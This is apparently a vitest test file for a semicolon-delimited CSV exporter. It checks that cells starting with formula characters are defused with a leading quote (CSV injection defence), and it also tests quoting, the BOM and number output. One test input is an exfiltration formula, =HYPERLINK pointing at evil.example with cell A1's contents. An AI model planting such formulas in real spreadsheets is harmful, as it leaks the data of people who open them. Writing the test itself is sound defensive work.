import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { spreadsheetCsv } from './spreadsheet-csv.ts';

/** The first characters that make a spreadsheet run a cell as a formula (OWASP "CSV Injection", ASVS 5.0 V1.2.10). */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\0'] as const;

const read = (csv: string): string[][] => parse(csv, { bom: true, delimiter: ';', relax_column_count: true });

describe('spreadsheetCsv', () => {
  it.each(FORMULA_STARTS)('writes a text cell that starts with %j as text, with a leading quote', (start) => {
    const value = `${start}HYPERLINK("https://evil.example/?x="&A1;"Klick")`;
    const [row] = read(spreadsheetCsv([[value, 'Müller']]));
    expect(row).toEqual([`'${value}`, 'Müller']);
  });

  it('also writes the full-width ＝＋－＠ that Apple Numbers reads as formula characters as text', () => {
    const [row] = read(spreadsheetCsv([['＝1+1', '＋1', '－1', '＠SUM(A1)']]));
    expect(row).toEqual(["'＝1+1", "'＋1", "'－1", "'＠SUM(A1)"]);
  });

  it('quotes cells with a semicolon, a double quote or a line break, and reads them back whole', () => {
    const cells = ['a;b', 'say "hi"', 'two\nlines', 'carriage\rreturn', 'windows\r\nbreak'];
    const csv = spreadsheetCsv([cells, ['next']]);
    expect(csv).toBe('\uFEFF"a;b";"say ""hi""";"two\nlines";"carriage\rreturn";"windows\r\nbreak"\r\nnext\r\n');
    expect(read(csv)).toEqual([cells, ['next']]);
  });

  it('starts with a UTF-8 BOM, ends every row with CRLF and writes an empty row as an empty line', () => {
    const csv = spreadsheetCsv([['Nachname', 'Vorname'], [], ['Groß', 'Jörg']]);
    expect(csv).toBe('\uFEFFNachname;Vorname\r\n\r\nGroß;Jörg\r\n');
  });

  it('writes numbers as plain numbers, a negative one without a quote, and empty cells as nothing', () => {
    const csv = spreadsheetCsv([[-3, 0, 12.5, 1000000, null, undefined, '']]);
    expect(csv).toBe('\uFEFF-3;0;12.5;1000000;;;\r\n');
  });

  it('leaves harmless text as it is, a formula character later in the cell included', () => {
    const csv = spreadsheetCsv([['Anna-Lena', 'a=b', 'x@example.com', "O'Brien", '1+1']]);
    expect(csv).toBe("\uFEFFAnna-Lena;a=b;x@example.com;O'Brien;1+1\r\n");
  });
});
